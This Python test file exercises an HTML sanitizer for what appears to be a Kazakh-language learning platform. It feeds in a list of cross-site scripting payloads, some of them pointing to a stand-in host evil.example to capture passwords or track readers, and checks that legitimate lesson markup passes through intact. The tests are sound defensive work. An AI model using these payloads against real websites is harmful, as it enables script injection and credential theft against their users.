"""Markup of people: what they need stays, what harms goes, whatever way it is written."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lms.core.html import ATTRIBUTES, TAGS, clean, plain

pytestmark = pytest.mark.pure

HOSTILE = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>", "<img src='/a' onload='alert(1)'>", "<p onclick=alert(1)>x</p>",
    "<a href='javascript:alert(1)'>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>", "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<svg><script>alert(1)</script></svg>", "<svg onload=alert(1)>", "<svg><a xlink:href='javascript:alert(1)'>x</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<style>@import 'javascript:alert(1)'</style>",
    "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>", "<embed src='//evil.example'>", "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href='//evil.example'>",
    "<form action='//evil.example'><input name=password><button>OK</button></form>",
    "<p style='background:url(javascript:alert(1))'>x</p>", "<p style='position:fixed;top:0'>x</p>",
    "<p style='text-align:expression(alert(1))'>x</p>", "<p style='text-align:left;background:url(//evil.example)'>x</p>",
    "<p class='modal show position-fixed'>x</p>", "<p id='csrf_token'>x</p>", "<img name='getElementById'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>", "<title><img src=x onerror=alert(1)>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>", "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<img src='//evil.example/seen.gif'>", "<img src='https://evil.example/seen.gif'>", "<img src='/\\evil.example/x'>",
    "<video><source onerror=alert(1)></video>", "<details open ontoggle=alert(1)>", "<a href='/x' target=_blank ping=/y>x</a>",
    "<p\x00onclick=alert(1)>x</p>", "<img/src=x/onerror=alert(1)>", "<img src=`x` onerror=alert(1)>",
    "<template><script>alert(1)</script></template>", "<select><template><img src=x onerror=alert(1)></template></select>",
]  # fmt: skip


class Reader(HTMLParser):
    """Everything a browser could act on."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def harmless(markup: str) -> None:
    reader = Reader()
    reader.feed(markup)
    reader.close()
    for tag, attributes in reader.tags:
        assert tag in TAGS, markup
        assert set(attributes) <= ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"rel"}, markup
        for name, value in attributes.items():
            if name in ("href", "src"):
                scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", value or "", re.IGNORECASE)
                assert scheme is None or scheme[1].lower() in {"http", "https", "mailto"}, markup
            if name == "src":
                assert (value or "").startswith("/") and not (value or "").startswith(("//", "/\\")), markup
            if name == "style":
                assert re.fullmatch(r"text-align:\s*\w+;?", value or ""), markup
            if name == "class":
                assert all(one.startswith("c-") for one in (value or "").split()), markup


@pytest.mark.parametrize("markup", HOSTILE)
def test_what_harms_goes(markup: str) -> None:
    harmless(clean(markup))
    harmless(clean(f"<div>{markup}</div><table><tr><td>{markup}"))


@given(
    st.lists(
        st.sampled_from(
            [*HOSTILE, "<p>", "</p>", "<b>", "</table>", "'", '"', ">", "<", "&lt;", "<!--", "-->"]
        ),
        max_size=6,
    )
)
def test_what_harms_goes_in_any_company(parts: list[str]) -> None:
    harmless(clean("".join(parts)))


@given(st.lists(st.sampled_from([*HOSTILE, "<p>", "</b>", "&amp;", "<td>", "сөз"]), max_size=6))
def test_cleaning_twice_changes_nothing(parts: list[str]) -> None:
    once = clean("".join(parts))
    assert clean(once) == once


@pytest.mark.parametrize(
    "markup",
    ["<p>Суды 100 °C-қа дейін <strong>қыздырыңыз</strong>.</p>",
     '<p style="text-align:center">орта</p>', '<span class="c-note">ескерту</span>',
     '<table><tbody><tr><th scope="col">жыл</th><td colspan="2">1991</td></tr></tbody></table>',
     '<figure><img src="/files/ab.png" alt="Карта" width="640"><figcaption>Карта</figcaption></figure>',
     '<a href="https://adilet.zan.kz/kaz" rel="noopener noreferrer">заң</a>', '<ol start="3"><li>үш</li></ol>',
     '<p lang="ru" dir="ltr">по-русски</p>'],
)  # fmt: skip
def test_what_lessons_need_stays_as_it_is(markup: str) -> None:
    assert clean(markup) == markup


def test_the_words_alone_are_text_and_stay_apart() -> None:
    assert plain("<p>Бір &amp; екі</p><ul><li>үш</li><li>төрт&lt;5</li></ul>") == "Бір & екі үш төрт<5"
    assert plain("<script>alert(1)</script><p>сөз</p>").endswith("сөз")
